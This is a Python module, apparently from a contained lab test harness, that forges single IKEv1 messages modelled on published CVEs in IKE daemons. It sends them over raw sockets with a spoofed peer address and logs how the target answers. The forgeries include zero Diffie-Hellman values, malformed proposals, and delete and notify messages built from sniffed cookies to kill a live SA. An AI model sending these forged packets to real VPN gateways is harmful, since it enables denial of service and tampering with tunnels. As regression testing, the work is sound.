# SPDX-License-Identifier: GPL-2.0-or-later
"""Single forged messages of IKEv1, each after a published flaw of an IKE daemon, and what comes back."""

from __future__ import annotations

import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from .lab import Lab
from .wire import Capture, kind

_SENDER = Path(__file__).with_name("sender.py")
_MAIN, _AGGRESSIVE, _INFORMATIONAL = 2, 4, 5
_SA, _KE, _ID, _NONCE, _NOTIFY, _DELETE = 1, 4, 5, 10, 11, 12
_ENCRYPTED = 1
_COOKIE = bytes(range(1, 9))
# AES-256, SHA2-256, preshared key, MODP2048
_TRANSFORM = bytes.fromhex("00000024 0001 0000 800b0001 800c7080 80010007 80020004 80030001 8004000e 800e0100")


def _message(first: int, exchange: int, body: bytes, cookies: bytes = _COOKIE + bytes(8), flags: int = 0, number: int = 0) -> bytes:
    length = (28 + len(body)).to_bytes(4, "big")
    return cookies + bytes([first, 0x10, exchange, flags]) + number.to_bytes(4, "big") + length + body


def _payload(after: int, body: bytes) -> bytes:
    return bytes([after, 0]) + (4 + len(body)).to_bytes(2, "big") + body


def _sa(after: int, situation: int = 1, transform: bytes = _TRANSFORM) -> bytes:
    proposal = _payload(0, bytes([0, 1, 0, 1]) + transform)
    return _payload(after, (1).to_bytes(4, "big") + situation.to_bytes(4, "big") + proposal)


def _aggressive(gx: bytes, transform: bytes = _TRANSFORM) -> bytes:
    body = _sa(_KE, transform=transform) + _payload(_NONCE, gx) + _payload(_ID, bytes(16)) + _payload(0, b"\x02\0\0\0west")
    return _message(_SA, _AGGRESSIVE, body)


_ISAKMP = (1).to_bytes(4, "big") + b"\x01"


@dataclass(frozen=True)
class Known:
    """What a forger has seen: both cookies of an SA that is up, the responder's in the last answer to a forged message."""

    up: bytes
    answered: bytes


FLAWS: dict[str, Callable[[Known], bytes]] = {
    # CVE-2016-5361: an answer that is sent again and again to who never asked
    "first-message": lambda known: _message(_SA, _MAIN, _sa(0)),
    # CVE-2015-3240: a public value of zero
    "zero-group-value": lambda known: _aggressive(bytes(256)),
    "short-group-value": lambda known: _aggressive(bytes([2]) * 16),
    "no-identity": lambda known: _message(_SA, _AGGRESSIVE, _sa(_KE) + _payload(0, bytes([2]) * 256)),
    # CVE-2015-3204: all bits of the situation, and a payload of a type that is taken for another
    "situation": lambda known: _message(_SA, _MAIN, _sa(0, situation=0xFFFFFFFF)),
    "old-nat-detection": lambda known: _message(_SA, _MAIN, _sa(15) + _payload(0, bytes(20))),
    # CVE-2022-23094: malformed where there is no state yet
    "malformed": lambda known: _message(_SA, _MAIN, _sa(0)[:-10] + bytes(10)),
    # CVE-2020-1763: encrypted, for an SA that there is not
    "unknown-informational": lambda known: _message(8, _INFORMATIONAL, bytes(64), _COOKIE * 2, _ENCRYPTED, 7),
    # CVE-2019-10155: encrypted, but with other keys
    "forged-informational": lambda known: _message(8, _INFORMATIONAL, bytes(64), known.up, _ENCRYPTED, 7),
    "clear-delete": lambda known: _message(
        _DELETE, _INFORMATIONAL, _payload(0, _ISAKMP + bytes([16, 0, 1]) + known.up), known.up, 0, 9
    ),
    "clear-notification": lambda known: _message(
        _NOTIFY, _INFORMATIONAL, _payload(0, _ISAKMP + bytes([16, 0, 4]) + known.up), known.up, 0, 11
    ),
    # CVE-2023-30570, which libreswan 4.10 has: proposals that are refused, then the refuser's cookie as the sender's own
    "refused-group": lambda known: _aggressive(bytes([2]) * 256, _TRANSFORM.replace(bytes.fromhex("8004000e"), bytes.fromhex("80040001"))),
    "turned-cookie": lambda known: _message(_SA, _AGGRESSIVE, _sa(0), known.answered + bytes(8)),
}


def known(messages: list[tuple[str, str, bytes]]) -> Known:
    up, answered = bytes(16), bytes(8)
    for _, _, message in messages:
        if message[:8] == _COOKIE:
            answered = message[8:16] if any(message[8:16]) else answered
        elif message[19] & _ENCRYPTED and message[17] == 0x10:
            up = message[:16]
    return Known(up, answered)


def _messages(file: Path) -> list[tuple[str, str, bytes]]:
    """Source, target and IKE message of every datagram on port 500."""
    found = []
    for frame in Capture(file).frames():
        packet = frame[14:]
        if kind(frame) == "ike" and packet[0] >> 4 == 4:
            ends = [".".join(map(str, packet[at : at + 4])) for at in (12, 16)]
            message = packet[(packet[0] & 15) * 4 + 8 :]
            if len(message) >= 28:
                found.append((ends[0], ends[1], message))
    return found


def forge(lab: Lab, name: str, target: str, seconds: float) -> list[str]:
    """Sends the message of that name to `target` as if its peer had, and tells what the target sends within so many seconds."""
    before = _messages(lab.capture_file)
    message = FLAWS[name](known(before))
    peer = "192.0.2.1" if target != "192.0.2.1" else "192.0.2.2"
    program = f"import sys; sys.path.insert(0, {str(_SENDER.parent)!r}); import sender, socket; " + (
        "raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW); "
        f"raw.sendto(sender.datagram({peer!r}, {target!r}, 500, bytes.fromhex({message.hex()!r})), ({target!r}, 0))"
    )
    subprocess.run(lab.cabling(f'exec {sys.executable} -c "{program}"'), check=True)
    time.sleep(seconds)
    after = _messages(lab.capture_file)[len(before) :]
    return [f"answered: exchange {m[18]}, {len(m)} octets" for source, _, m in after if source == target]
